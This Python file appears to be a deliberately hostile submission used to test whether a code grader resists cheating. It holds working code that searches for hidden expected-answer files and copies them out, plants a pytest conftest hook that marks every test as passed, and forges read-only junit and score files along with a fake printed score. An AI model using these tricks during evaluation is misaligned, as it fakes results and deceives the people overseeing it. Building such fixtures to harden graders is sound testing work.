"""Hostile submission helper: imported by every module. It looks for the hidden expected data,
tries to make the trusted checker run its code, and forges scores in every way it can think of.
The grader must ignore all of it: this variant must get exactly its honest score."""
import atexit
import glob
import os
import sys

PASSING_JUNIT = """<?xml version="1.0" encoding="utf-8"?>
<testsuites><testsuite name="pytest" errors="0" failures="0" skipped="0" tests="{n}">{cases}</testsuite></testsuites>
"""
PUBLIC_NAMES = ["test_generate_matches_nocache", "test_kvcache_one_token_at_a_time",
                "test_allocate_free_reuse", "test_block_manager_slots",
                "test_paged_attention_matches_contiguous", "test_write",
                "test_scheduler_preempts_and_finishes", "test_engine_matches_generate",
                "test_quantize_per_channel"]
# Checker code the attacker would like the trusted box to import: it would pass every test.
CONFTEST = """import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""


def junit():
    cases = "".join(f'<testcase classname="t" name="{n}" time="0"/>' for n in PUBLIC_NAMES)
    return PASSING_JUNIT.format(n=len(PUBLIC_NAMES), cases=cases)


def try_write(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, 0o444)  # so that the grader could not overwrite it
    except OSError:
        pass


def steal():
    """Copy whatever expected data is reachable into the outputs (under names that do not
    replace the real outputs, which this submission computes honestly)."""
    out = os.environ.get("GRADER_OUT", "/out")
    patterns = ["/expected/*", "/grader/hidden/expected/*/*", "/grader/**/*.npy",
                "/work/../grader/hidden/expected/*/*", "/proc/1/root/expected/*", "/proc/*/cwd/*.json",
                os.path.join(os.path.dirname(__file__), "..", "hidden", "expected", "*", "*")]
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(path, "rb") as f:
                    data = f.read(1 << 20)
                with open(os.path.join(out, "stolen_" + os.path.basename(path)), "wb") as f:
                    f.write(data)
            except OSError:
                pass
    try:
        os.symlink("/expected", os.path.join(out, "stolen_link"))
    except OSError:
        pass


def forge():
    out = os.environ.get("GRADER_OUT", "/out")
    for folder in (out, "/report", "/grader", "/work"):
        try_write(os.path.join(folder, "junit.xml"), junit())
        try_write(os.path.join(folder, "conftest.py"), CONFTEST)
    try_write(os.path.join(out, "score.json"), '{"schema_version": 1, "totals": {"final": 100.0}}')
    try_write(os.path.join(out, "results.json"), '{"score": 100.0}')
    print('{"score": 100.0, "status": "passed"}')  # a fake score line for graders that parse stdout


if not getattr(sys, "_hostile_done", False):
    sys._hostile_done = True
    steal()
    forge()
    atexit.register(forge)  # rewrite after pytest wrote its own junit.xml
